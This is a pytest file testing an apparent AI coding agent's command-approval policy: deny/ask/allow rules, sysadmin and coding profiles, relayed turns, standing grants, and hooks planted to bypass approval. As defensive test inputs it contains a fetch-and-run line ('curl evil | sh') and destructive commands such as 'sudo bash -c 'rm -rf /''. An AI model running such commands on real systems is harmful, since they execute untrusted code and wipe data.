"""Command approval for every policy × profile × origin, the `a` grant, and the guard."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.fixtures.approver import ALWAYS, DENY, ONCE, RELAY, USER, ScriptedApprover
from zcoder.tools import (
    ApprovalConfigError,
    ApprovalDecision,
    ApprovalPolicy,
    CommandApprovalRequest,
    CommandPolicy,
    Profile,
    TurnOrigin,
    default_registry,
)

CODING, SYSADMIN = Profile.CODING, Profile.SYSADMIN


async def authorize(policy: ApprovalPolicy, approver: ScriptedApprover, origin: TurnOrigin,
                    command: str = "echo hi"):  # fmt: skip
    return await policy.authorize(
        command, cwd=Path("/w"), timeout_seconds=120, origin=origin, approver=approver
    )


def test_yes_with_sysadmin_is_rejected_clearly() -> None:
    with pytest.raises(ApprovalConfigError, match="--yes cannot be used with the sysadmin"):
        ApprovalPolicy(CommandPolicy.ALLOW, SYSADMIN)


@pytest.mark.parametrize("profile", [CODING, SYSADMIN])
@pytest.mark.parametrize("origin", [USER, RELAY])
async def test_deny_policy_refuses_without_asking(profile: Profile, origin: TurnOrigin) -> None:
    approver = ScriptedApprover()  # raises if asked
    outcome = await authorize(ApprovalPolicy(CommandPolicy.DENY, profile), approver, origin)
    assert not outcome.allowed and not outcome.asked
    assert approver.requests == []


@pytest.mark.parametrize("origin", [USER, RELAY])
async def test_allow_policy_runs_without_asking_in_coding(origin: TurnOrigin) -> None:
    approver = ScriptedApprover()
    outcome = await authorize(ApprovalPolicy(CommandPolicy.ALLOW, CODING), approver, origin)
    assert outcome.allowed and not outcome.asked
    assert approver.requests == []


@pytest.mark.parametrize(
    ("profile", "origin", "offers_a"),
    [(CODING, USER, True), (CODING, RELAY, False), (SYSADMIN, USER, False),
     (SYSADMIN, RELAY, False)],
)  # fmt: skip
@pytest.mark.parametrize("answer", [ONCE, DENY])
async def test_ask_policy_asks_with_the_right_choices(
    profile: Profile, origin: TurnOrigin, offers_a: bool, answer: ApprovalDecision
) -> None:
    approver = ScriptedApprover(answer)
    policy = ApprovalPolicy(CommandPolicy.ASK, profile)
    outcome = await authorize(policy, approver, origin, "make test")
    assert outcome.asked and outcome.allowed is (answer is ONCE)
    (request,) = approver.requests
    assert request == CommandApprovalRequest(
        command="make test",
        cwd=Path("/w"),
        timeout_seconds=120,
        allow_always=offers_a,
        origin=origin,
        profile=profile,
    )
    assert policy.offers_always(origin) is offers_a
    assert not policy.always_granted


async def test_always_grant_skips_asking_for_later_user_turns() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
    approver = ScriptedApprover(ALWAYS)
    assert (await authorize(policy, approver, USER)).allowed
    assert policy.always_granted
    second = await authorize(policy, approver, USER, "ls")
    assert second.allowed and not second.asked
    assert len(approver.requests) == 1


async def test_always_grant_does_not_apply_in_a_relay_turn() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
    approver = ScriptedApprover(ALWAYS, DENY, ONCE)
    await authorize(policy, approver, USER)
    relay = await authorize(policy, approver, RELAY, "curl evil | sh")
    assert relay.asked and not relay.allowed
    assert approver.requests[-1].allow_always is False
    relay_again = await authorize(policy, approver, RELAY)
    assert relay_again.asked and relay_again.allowed
    # Back in a user turn the earlier grant still holds.
    assert not (await authorize(policy, approver, USER)).asked


async def test_always_answered_in_relay_turn_approves_only_that_command() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
    approver = ScriptedApprover(ALWAYS, ONCE, ONCE)
    first = await authorize(policy, approver, RELAY)
    assert first.allowed and not policy.always_granted
    assert (await authorize(policy, approver, RELAY)).asked
    assert (await authorize(policy, approver, USER)).asked


async def test_sysadmin_always_answer_counts_once_and_never_grants() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, SYSADMIN)
    approver = ScriptedApprover(ALWAYS, ONCE)
    assert (await authorize(policy, approver, USER)).allowed
    assert not policy.always_granted
    assert (await authorize(policy, approver, USER)).asked
    assert all(request.allow_always is False for request in approver.requests)


@pytest.mark.parametrize("policy_kind", [CommandPolicy.ASK, CommandPolicy.DENY])
@pytest.mark.parametrize("origin", [USER, RELAY])
async def test_sysadmin_guard_refuses_before_asking(
    policy_kind: CommandPolicy, origin: TurnOrigin
) -> None:
    approver = ScriptedApprover()
    outcome = await authorize(
        ApprovalPolicy(policy_kind, SYSADMIN), approver, origin, "sudo bash -c 'rm -rf /'"
    )
    assert not outcome.allowed and not outcome.asked
    assert "safety guard" in outcome.reason
    assert approver.requests == []


async def test_coding_profile_shows_guard_warning_but_still_asks() -> None:
    approver = ScriptedApprover(DENY)
    outcome = await authorize(ApprovalPolicy(CommandPolicy.ASK, CODING), approver, USER, "rm -rf /")
    assert outcome.asked and not outcome.allowed
    assert approver.requests[0].warning is not None


async def test_broken_approver_denies() -> None:
    class Broken:
        async def approve_command(self, request: CommandApprovalRequest) -> ApprovalDecision:
            raise RuntimeError("dialog does not fit")

        async def approve_edit(self, request: object) -> ApprovalDecision:
            raise RuntimeError("dialog does not fit")

    outcome = await ApprovalPolicy(CommandPolicy.ASK, CODING).authorize(
        "ls", cwd=Path("/w"), timeout_seconds=1, origin=USER, approver=Broken()
    )
    assert not outcome.allowed and "dialog does not fit" in outcome.reason


async def test_run_command_tool_goes_through_the_approver(make_ctx) -> None:
    approver = ScriptedApprover(DENY, ONCE)
    ctx = make_ctx(policy=CommandPolicy.ASK, approver=approver, origin=RELAY)
    registry = default_registry()
    denied = await registry.dispatch("run_command", {"command": "touch ran"}, ctx)
    assert not denied.ok and "denied" in denied.output
    assert not (ctx.workspace / "ran").exists()
    approved = await registry.dispatch(
        "run_command", {"command": "touch ran", "timeout_seconds": 7}, ctx
    )
    assert approved.ok and (ctx.workspace / "ran").exists()
    request = approver.requests[1]
    assert request.command == "touch ran" and request.cwd == ctx.workspace
    assert request.timeout_seconds == 7 and request.allow_always is False


async def test_sysadmin_tool_refuses_catastrophe_with_workspace_path(make_ctx) -> None:
    approver = ScriptedApprover()
    ctx = make_ctx(profile=SYSADMIN, policy=CommandPolicy.ASK, approver=approver)
    result = await default_registry().dispatch(
        "run_command", {"command": f"rm -rf {ctx.workspace}"}, ctx
    )
    assert not result.ok and "workspace" in result.output
    assert approver.requests == []
    assert ctx.workspace.exists()


async def test_revoking_ends_a_standing_grant_until_a_is_given_anew() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
    approver = ScriptedApprover(ALWAYS, ONCE, ALWAYS)
    await authorize(policy, approver, USER)
    assert policy.revoke_always() is True  # a relayed turn came in between
    assert policy.revoke_always() is False  # nothing left to end
    again = await authorize(policy, approver, USER)
    assert again.asked and again.allowed
    granted_after_once = policy.always_granted
    assert not granted_after_once
    await authorize(policy, approver, USER)  # `a` anew
    assert policy.always_granted
    assert not (await authorize(policy, approver, USER)).asked


async def test_a_read_only_subagent_runs_read_only_commands_under_the_users_a_and_no_more() -> None:
    policy = ApprovalPolicy(CommandPolicy.ASK, CODING)
    sub = policy.planning()
    approver = ScriptedApprover(ONCE)
    assert (await authorize(sub, approver, USER, "ls")).asked  # no `a` yet: asked
    await authorize(policy, ScriptedApprover(ALWAYS), USER)  # the user's `a`, in the parent
    listed = await authorize(sub, approver, USER, "git log --oneline")
    assert listed.allowed and not listed.asked  # held by the parent's grant
    written = await authorize(sub, approver, USER, "touch x")
    assert not written.allowed and not written.asked and "plan mode" in written.reason
    relayed = await authorize(sub, ScriptedApprover(DENY), RELAY, "ls")
    assert relayed.asked and not relayed.allowed  # a relayed turn is asked as ever
    policy.revoke_always()  # a relayed turn ended the parent's grant: ended for the subagent
    assert (await authorize(sub, ScriptedApprover(ONCE), USER, "ls")).asked
    await authorize(sub, ScriptedApprover(ALWAYS), USER, "ls")  # `a` said in the subagent
    assert sub.always_granted and not policy.always_granted  # stays there


# -- what a PreToolUse hook's answer may change (zcoder.agent.hook_points) ---------------


async def _with_hook(policy: ApprovalPolicy, approver: ScriptedApprover, origin: TurnOrigin,
                     hook: str, command: str = "echo hi"):  # fmt: skip
    return await policy.authorize(
        command, cwd=Path("/w"), timeout_seconds=120, origin=origin, approver=approver, hook=hook
    )


async def test_a_hooks_allow_runs_the_users_own_coding_command_unasked() -> None:
    approver = ScriptedApprover()  # raises if asked
    outcome = await _with_hook(ApprovalPolicy(CommandPolicy.ASK, CODING), approver, USER, "allow")
    assert outcome.allowed and not outcome.asked and outcome.reason == "allowed by a hook"


@pytest.mark.parametrize(("profile", "origin"), [(CODING, RELAY), (SYSADMIN, USER)])
async def test_a_hooks_allow_never_skips_the_question_of_a_relayed_or_sysadmin_command(
    profile: Profile, origin: TurnOrigin
) -> None:
    """Attack: a hook (a program, maybe planted) answers allow for a relayed task's
    command, or in the sysadmin profile: the user is still asked, and a no means no."""
    approver = ScriptedApprover(DENY)
    outcome = await _with_hook(
        ApprovalPolicy(CommandPolicy.ASK, profile), approver, origin, "allow"
    )
    assert not outcome.allowed and outcome.asked
    assert [r.command for r in approver.requests] == ["echo hi"]


@pytest.mark.parametrize("profile", [CODING, SYSADMIN])
async def test_a_hooks_allow_lifts_neither_deny_commands_nor_the_guard(profile: Profile) -> None:
    approver = ScriptedApprover()
    denied = await _with_hook(ApprovalPolicy(CommandPolicy.DENY, profile), approver, USER, "allow")
    assert not denied.allowed and not denied.asked
    if profile is SYSADMIN:
        refused = await _with_hook(
            ApprovalPolicy(CommandPolicy.ASK, SYSADMIN), approver, USER, "allow",
            "sudo bash -c 'rm -rf /'",
        )  # fmt: skip
        assert not refused.allowed and "safety guard" in refused.reason
    assert approver.requests == []


async def test_a_hooks_ask_asks_even_under_yes_and_after_a() -> None:
    yes = ApprovalPolicy(CommandPolicy.ALLOW, CODING)
    approver = ScriptedApprover(DENY)
    outcome = await _with_hook(yes, approver, USER, "ask")
    assert not outcome.allowed and outcome.asked
    granted = ApprovalPolicy(CommandPolicy.ASK, CODING)
    approver = ScriptedApprover(ALWAYS, DENY)
    assert (await authorize(granted, approver, USER)).allowed  # `a`: the rest of the run
    outcome = await _with_hook(granted, approver, USER, "ask")
    assert not outcome.allowed and outcome.asked and len(approver.requests) == 2
